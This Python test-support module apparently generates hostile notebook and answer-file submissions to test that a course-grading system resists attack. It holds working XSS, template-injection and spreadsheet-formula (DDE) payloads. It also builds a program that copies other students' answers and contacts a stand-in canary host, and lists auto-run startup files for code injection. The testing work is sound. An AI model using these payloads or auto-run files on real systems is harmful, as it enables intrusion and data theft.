"""What a hand-in can hold that is meant to do harm: payloads by name, and the places where they can be put.

A payload that gets its way calls ``__pwned`` in a page, asks the canary (an own server at 127.0.0.1) for something,
or leads the page elsewhere. `tests/browser/test_hostile_control.py` shows that those marked as acting do so.
"""

from __future__ import annotations

import json
import unicodedata
from collections.abc import Iterable, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

CANARY = "http://canary.invalid"
"""Stands in the payloads where the address of the canary comes."""
RUN = "__pwned(/NAME/.source)"
"""What a script does that gets its way; without a quote, so that it fits anywhere."""


@dataclass(frozen=True)
class Payload:
    """One text that is meant to do harm."""

    name: str
    raw: str
    acts: bool = False
    """Whether it does harm where it is put in a page as it stands."""

    def text(self, canary: str = CANARY) -> str:
        """Return the text; `canary` is the address of the server that may get no request."""
        return self.raw.replace("NAME", self.name).replace(CANARY, canary)


def _acting(**payloads: str) -> list[Payload]:
    return [Payload(name.replace("_", "-"), text, acts=True) for name, text in payloads.items()]


def _still(**payloads: str) -> list[Payload]:
    return [Payload(name.replace("_", "-"), text) for name, text in payloads.items()]


MARKUP = [
    *_acting(
        script=f"<script>{RUN}</script>",
        script_src=f"<script src='{CANARY}/script.js'></script>",
        script_breaking_out=f"</div></p></textarea></title></style></script><script>{RUN}</script>",
        script_in_uppercase=f"<ScRiPt >{RUN}</sCrIpT >",
        module=f"<script type=module>{RUN}</script>",
        image_error=f'<img src=x onerror="{RUN}">',
        image_from_elsewhere=f"<img src='{CANARY}/beeld.png'>",
        image_in_attribute=f"'\"><img src=x onerror=\"{RUN}\">",
        image_with_slashes=f"<img/src='x'/onerror={RUN}>",
        image_with_a_line_break=f'<img src=x\nonerror\n=\n"{RUN}">',
        picture=f"<picture><source srcset='{CANARY}/bron.png'><img></picture>",
        video=f"<video src=x onerror=\"{RUN}\"></video><audio src='{CANARY}/geluid.mp3' autoplay></audio>",
        details=f'<details open ontoggle="{RUN}"><summary>x</summary>y</details>',
        focus=f'<input autofocus onfocus="{RUN}">',
        animation=f"<style>@keyframes x{{}}</style><b style='animation:x 1s' onanimationstart=\"{RUN}\">x</b>",
        svg=f'<svg onload="{RUN}"></svg>',
        svg_animate=f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
        svg_script=f"<svg><script>{RUN}</script></svg>",
        svg_image=f"<svg><image href='{CANARY}/vorm.png'/></svg>",
        svg_foreign=f"<svg><foreignObject><iframe srcdoc='<script>parent.{RUN}</script>'></iframe></svg>",
        math=f'<math><mi//xlink:href="data:x"><img src=x onerror="{RUN}"></math>',
        iframe_srcdoc=f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
        iframe_javascript=f'<iframe src="javascript:parent.{RUN}"></iframe>',
        iframe_from_elsewhere=f"<iframe src='{CANARY}/lijst'></iframe>",
        object=f"<object data='{CANARY}/voorwerp'></object>",
        embed=f"<embed src='{CANARY}/ingevoegd'>",
        base=f"<base href='{CANARY}/'><img src=basis.png>",
        refresh=f"<meta http-equiv=refresh content=\"0;url='{CANARY}/ververs'\">",
        form=f"<form id=kwaad action='{CANARY}/form'></form><img src=x onerror='document.forms.kwaad.submit()'>",
        link=f"<link rel=stylesheet href='{CANARY}/stijl.css'>",
        preload=f"<link rel=preload as=image href='{CANARY}/vooraf.png'>",
        style=f"<style>body{{background:url('{CANARY}/achtergrond.png')}}</style>",
        style_import=f"<style>@import '{CANARY}/import.css';</style>",
        style_attribute=f"<p style=\"background:url('{CANARY}/attribuut.png')\">x</p>",
        style_font=f"<style>@font-face{{font-family:q;src:url('{CANARY}/q.woff')}}b{{font-family:q}}</style><b>x</b>",
        noscript=f"<noscript><p title=\"</noscript><img src=x onerror='{RUN}'>\"></noscript>",
        comment=f'<!-- --!><img src=x onerror="{RUN}"> -->',
        comment_short=f'<!--><img src=x onerror="{RUN}">-->',
        cdata=f'<![CDATA[><img src=x onerror="{RUN}">]]>',
        processing=f'<?xml version="1.0"><img src=x onerror="{RUN}">?>',
        end_of_text=f'</textarea><img src=x onerror="{RUN}">',
        end_of_script=f'</script><img src=x onerror="{RUN}">',
        end_of_attribute=f'\'"`><img src=x onerror="{RUN}"><x a="',
        end_of_json=f'"}}}}</script><script>{RUN}</script>',
        tables=f'<table><td><form><form><math><mtext><option><svg></table><img src=x onerror="{RUN}">',
        null_in_tag=f'<img src=x onerror="{RUN}" \x00>',
        unicode_newline_in_script=f"<script>//\u2028{RUN}</script>",
        entities='<img src=x onerror="&#95;&#95;pwned&#40;/NAME/.source)">',
    ),
    *_still(
        link_javascript=f'<a href="javascript:{RUN}" id=answers>klik</a>',
        link_javascript_hidden=f'<a href="java\nscript&colon;{RUN}">klik</a>',
        link_data=f'<a href="data:text/html,<script>{RUN}</script>">klik</a>',
        link_vbscript='<a href="vbscript:msgbox(1)">klik</a>',
        button=f'<button formaction="javascript:{RUN}" form=kwaad>klik</button>',
        style_expression=f"<p style=\"width:expression({RUN});-moz-binding:url('x')\">x</p>",
        style_covering="<div style='position:fixed;inset:0;z-index:99999;background:#fff'>Log opnieuw in</div>",
        style_hiding="<style>*{display:none!important}</style>",
        template=f'<template><img src=x onerror="{RUN}"></template>',
        # Markup that changes when what was read of it is written and read again, as a sanitised text may be.
        mutation_math=f'<math><mtext><table><mglyph><style><!--</style><b title="--&gt;&lt;img src onerror={RUN}&gt;">',
        mutation_noscript=f'<noscript><style></noscript><img src=x onerror="{RUN}"></style></noscript>',
        mutation_svg=f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
        mutation_form=f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
        unfinished_tag=f"<img src=x onerror={RUN} ",
        unfinished_comment="<!--",
        unfinished_script="<script>",
        unfinished_textarea="<textarea>",
        unfinished_plaintext="<plaintext>",
        escaped="&lt;b&gt; &amp; &#x3c;script&#x3e; <b>vet</b> &copy &nbsp;",
        escaped_twice="&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
        window_names="<form id=answers name=cookie><input name=getElementById></form>",
    ),
]  # fmt: skip

TEMPLATES = _still(
    template_jinja="{{ 7 * 7 }} {% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %} {# weg #}",
    template_jinja_loop="{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    template_tornado="{% module x %}{% raw x %}{{ handler.settings }}",
    template_raw="{% endraw %}{{ 7 * 7 }}{% raw %}",
    template_angular="{{constructor.constructor('" + RUN + "')()}}",
    template_javascript="${" + RUN + "} `${" + RUN + "}`",
    template_erb="<%= 7 * 7 %> <?php echo 7 ?> #{7 * 7} ${{7 * 7}}",
    template_format="%s %(x)s %n {} {0} {0.__class__} $x \\1 \\g<0> %SystemRoot%",
    template_replacement="$& $` $' $1 \\0",
)

MARKDOWN = _still(
    markdown_link=f"[klik](javascript:{RUN}) [hier]({CANARY}/link)",
    markdown_image=f"![x]({CANARY}/beeld.png) ![x](javascript:{RUN})",
    markdown_title=f'[x](x "\'onmouseover={RUN} ")',
    markdown_reference=f"[klik][1]\n\n[1]: javascript:{RUN}",
    markdown_autolink=f"<javascript:{RUN}> <{CANARY}/auto> {CANARY}/kaal",
    markdown_html=f'# Kop\n\n<div>\n\n<img src=x onerror="{RUN}">\n\n</div>',
    markdown_code=f'```html\n<script>{RUN}</script>\n```\n~~~\n</code></pre><img src=x onerror="{RUN}">',
    markdown_attachment="![x](attachment:kwaad.svg)",
    markdown_math=f"$$\\href{{javascript:{RUN}}}{{klik}}$$ \\(\\unicode{{x}}\\) \\require{{html}}\\style{{x}}{{y}}",
    markdown_table="| a | b |\n|---|---|\n| <b>c | `|` |",
)

CHARACTERS = _still(
    bidi_override="\u202eneppo redeel\u202c \u202dx\u202c",
    bidi_unclosed="Mijn antwoord \u202e\u202e\u202e",
    bidi_isolates="\u2066\u2067\u2068 links \u202b rechts",
    bidi_marks="\u200f)\u200e( \u061c",
    bidi_hebrew="\u05d0\u05d1\u05d2 (1 van 2 punten) \u05d3",
    zero_width="Sc\u200bo\u200cr\u200de\u2060: \ufeff10 \u00adpunten\u180e",
    combining="Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324" * 40,
    tags="tekst\U000e0041\U000e0042\U000e0043 \ufe0f\U000e0100",
    newlines="een\u2028twee\u2029drie\u0085vier\x0bvijf\x0czes\rzeven\r\nacht\nnegen",
    controls="a\x00b\x01c\x07d\x08e\x1b[31mf\x1b]0;titel\x07g\x7fh\x9b31mi",
    surrogates="los \ud800 en \udfff en \udc00\ud800",
    private="\ue000\uf8ff\U000f0000\ufffe\uffff\U0010ffff",
    astral="\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001d4d0",
    long_word="w" * 20_000,
    long_lines="\n" * 300 + "onderaan",
    spaces="\u00a0\u2003\u3000 tussen \u1680\u205f ",
    quotes="'\"`\\\\'\\\"\\u003cscript\\u003e\\x3c",
    nothing_special="Een kind uit groep 5 & «één» voorbeeld: 1 < 2 > 0.",
)

PAYLOADS = [*MARKUP, *TEMPLATES, *MARKDOWN, *CHARACTERS]
"""The whole corpus."""

FORMULAS = {
    "equals": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1;1)",
    "hyperlink": f'=HYPERLINK("{CANARY}/x";"klik")',
    "webservice": f'=WEBSERVICE("{CANARY}/x")',
    "dde": "=cmd|'/C calc'!A0",
    "dde_plus": "+cmd|'/C calc'!A0",
    "import": f'=IMPORTXML(CONCAT("{CANARY}/?v=";A1);"//a")',
    "tab": "\t=1+1",
    "carriage": "\r=1+1",
    "newline": "\n=1+1",
    "space": " =1+1",
    "hard_space": "\u00a0=1+1",
    "zero_width": "\u200b=1+1",
    "mark": "\ufeff=1+1",
    "override": "\u202e=1+1",
    "quote": '"=1+1',
    "quote_closed": '"=1+1"',
    "apostrophe": "'=1+1",
    "full_equals": "\uff1d1+1",
    "full_plus": "\uff0b1+1",
    "full_minus": "\uff0d1+1",
    "full_at": "\uff20SUM(1)",
    "small_plus": "\ufe621",
    "minus_sign": "\u22121+1",
    "after_semicolon": "Anna;=1+1",
    "after_comma": "Anna,=1+1",
    "after_comma_and_quote": 'Anna", =1+1,"',
    "after_tab": "Anna\t=1+1",
    "after_line": "Anna\n=1+1\r\n@x",
    "after_quote_and_semicolon": 'Anna";"=1+1',
    "after_many": "a;;=1;,+2,\t-3|@4",
    "null": "\x00=1+1",
}
"""Texts that a spreadsheet could calculate."""

NAMES = {
    "script": "<script>__pwned('naam')<",
    "image": "<img src=x onerror=__pwned('naam')>",
    "attribute": "\"onmouseover=\"__pwned('naam')\" x='",
    "string": "';__pwned('naam');var x='",
    "string_double": '";__pwned("naam");var x="',
    "template": "{{ 7*7 }}{% raw %}${7*7}",
    "format": "{student_id}%(x)s",
    "pattern": "[a-z]*(?P<x>.)",
    "bidi": "\u202eanna\u202c",
    "zero_width": "an\u200bna",
    "formula": "=1+1;@x",
    "space": " a b ",
    "quote": "o'n\"e`il",
    "terminal": "\x1b[2J\x1b]0;weg\x07rood",
    "line": "anna\nNiet nagekeken: bas",
    "long": "n" * 120,
}
"""Names of people that can also be those of folders: no slash, no null."""


def clean_text(text: str) -> str:
    """Return a text as a page may show it: what cannot be written is a visible character, and lines end as lines do."""
    lines = text.replace("\r\n", "\n").replace("\r", "\n")
    return "".join("\ufffd" if unicodedata.category(it) in {"Cc", "Cs"} and it not in "\n\t" else it for it in lines)


def values(spec: Mapping[str, Any], text: str) -> dict[str, Any]:
    """Return an answer of a question's kind with a text wherever one fits, also where an id or a number belongs."""
    by_kind: dict[str, dict[str, Any]] = {
        "reflectie": {"text": text},
        "rekenvraag": {"text": text},
        "keuze": {"choice": [text, {"id": text}, [text]]},
        "stelling": {"position": 20, "text": text},
        "volgorde": {"order": [text, "a"]},
        "sorteren": {"sorted": {text: "both", "a": text}, "colleague": {"a": text}},
        "model": {"scenarios": [{"name": text, "parameters": {text: text}, "summary": text}, text]},
    }
    return by_kind[spec["kind"]]


def shown(spec: Mapping[str, Any], text: str) -> str:
    """Return the part of the answer of `values` that must be read on a page exactly so."""
    text = clean_text(text)
    if spec["kind"] == "rekenvraag":
        return text.strip()
    return f"«{text}»: {text}" if spec["kind"] == "model" else text


def answers_file(chapter: str, given: Mapping[str, Any], text: str) -> bytes:
    """Return an ``antwoorden.json`` with hostile texts around the answers as well, and answers to no question."""
    answers: dict[str, Any] = {
        key: {"value": value, "time": text, "revision": text, "writer": text} for key, value in given.items()
    }
    answers |= {text: {"value": {"text": text}}, f"{chapter}-onbekend": {"value": {"text": text}}, "__proto__": text}
    document = {"schema": 1, "chapter": text, "round": text, "answers": answers, "__proto__": {"x": text}, text: text}
    return json.dumps(document).encode()


MIME_TYPES = (
    "text/html", "text/markdown", "text/latex", "text/plain", "application/javascript", "image/svg+xml",
    "application/json", "application/vnd.jupyter.widget-view+json", "application/vnd.plotly.v1+json",
    "application/pdf", "image/png", "text/vnd.mermaid",
)  # fmt: skip


def hostile_notebook(released: Path, texts: Iterable[str], code: str = "") -> bytes:
    """Return the released notebook with every place in it taken: sources, outputs, attachments, ids and metadata.

    Args:
        released: the notebook as it was released
        texts: what to put in it
        code: what to run, in every cell of code and behind it
    """
    notebook = nbformat.read(released, as_version=4)
    for cell, text in zip(notebook.cells, [*texts] * len(notebook.cells), strict=False):
        cell.source = f"{code}\n{text}" if cell.cell_type == "code" else text
        if cell.cell_type == "code":
            cell.outputs = [new_output("display_data", dict.fromkeys(MIME_TYPES, text))]
    for number, text in enumerate(texts):
        meta = {"nbgrader": _grade(text), "ib": {"kind": "reflectie", "id": text, "prompt": text, "title": text}}
        outputs = [
            new_output("display_data", dict.fromkeys(MIME_TYPES, text), metadata={text: text}),
            new_output("stream", name="stdout", text=text),
            new_output("error", ename=text, evalue=text, traceback=[text]),
        ]
        attachments = {text: {"image/svg+xml": text, "text/html": text}}
        cells = [
            new_code_cell(f"{code}\n{text}", outputs=outputs, metadata=meta),
            new_markdown_cell(text, attachments=attachments, metadata=meta),
            new_raw_cell(text, metadata={**meta, "format": "text/html", "raw_mimetype": "text/html"}),
        ]
        for place, cell in enumerate(cells):
            cell.id = text if place == 0 else f"kwaad-{number}-{place}"
        notebook.cells += cells
    text = next(iter(texts))
    notebook.metadata = nbformat.from_dict(
        {
            "kernelspec": {"name": "kwaad", "display_name": text, "language": text, "argv": ["sh", "-c", code]},
            "language_info": {"name": text, "file_extension": text, "pygments_lexer": text, "mimetype": text},
            "title": text,
            "authors": [{"name": text}],
            "ib": {"chapter": text, "title": text, "sections": [{"id": text, "title": text}]},
            "ib_problems": [text],
            "celltoolbar": text,
            "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {text: text}}},
            "nbconvert": {"preprocessors": ["kwaad.Preprocessor"], "template": text},
            "papermill": {"parameters": {"x": text}},
        }
    )
    return json.dumps(notebook).encode("utf-8", "replace")


def _grade(text: str) -> dict[str, Any]:
    base = {"schema_version": 3, "grade_id": text, "points": 99, "locked": False, "task": False}
    return {**base, "grade": True, "solution": True, "cell_type": text, "checksum": text, "kind": text}


def harmful_code(trace: Path, canary: str = CANARY) -> str:
    """Return a program that leaves a file, asks the canary, and looks for the answers of others and the gradebook."""
    return f"""
import os, pathlib, subprocess, urllib.request
trace = pathlib.Path({str(trace)!r})
trace.mkdir(exist_ok=True)
for other in pathlib.Path("..").resolve().parent.rglob("antwoorden.json"):
    (trace / "gelezen").write_bytes(other.read_bytes())
(trace / f"python-{{os.getpid()}}").write_text(__name__)
subprocess.run(["touch", str(trace / "programma")])
urllib.request.build_opener(urllib.request.ProxyHandler({{}})).open({canary + "/code"!r})
"""


def magic_cells(trace: Path) -> list[str]:
    """Return cells that IPython runs in other ways than as Python."""
    return [f"%%bash\nmkdir -p {trace}; touch {trace}/bash", f"!touch {trace}/uitroep", f"%%writefile {trace}/magie\nx"]


def startup_files(code: str, notebook: bytes) -> dict[str, bytes]:
    """Return files, by relative path, that some program runs when it finds them where it works."""
    python = (
        "sitecustomize.py", "usercustomize.py", "conftest.py", "setup.py", "h9.py", "__init__.py", "__main__.py",
        "nbgrader_config.py", "jupyter_config.py", "jupyter_server_config.py", "jupyter_nbconvert_config.py",
        "ipython_config.py", "ipython_kernel_config.py", "json.py", "nbformat.py", "numpy.py", "nbgrader/__init__.py",
        "ib_course/__init__.py", "kwaad.py", "env.py", "migrations/env.py", "antwoorden.py",
        ".ipython/profile_default/startup/00.py", "profile_default/startup/00.py", ".jupyter/jupyter_config.py",
        ".local/lib/python3.11/site-packages/usercustomize.py",
    )  # fmt: skip
    argv = ["python3", "-c", code]
    kernel = {"argv": argv, "display_name": "kwaad", "language": "python"}
    return {
        **dict.fromkeys(python, code.encode()),
        ".ipynb_checkpoints/h9-checkpoint.ipynb": notebook,
        "anders.ipynb": notebook,
        "kernels/kwaad/kernel.json": json.dumps(kernel).encode(),
        "kwaad.pth": f"import os; exec({code!r})".encode(),
        "index.html.j2": b"{{ ().__class__.__base__.__subclasses__() }}",
        "templates/feedback/index.html.j2": b"{{ cycler.__init__.__globals__ }}",
        "alembic.ini": b"[alembic]\nscript_location = migrations\n",
        "feedback.html": b"<script>__pwned('bestand')</script>",
        "jupyter_config.json": json.dumps({"NbConvertApp": {"writer_class": "kwaad.Writer"}}).encode(),
        ".env": b"PYTHONSTARTUP=h9.py\n",
        "pyvenv.cfg": b"home = .\n",
    }
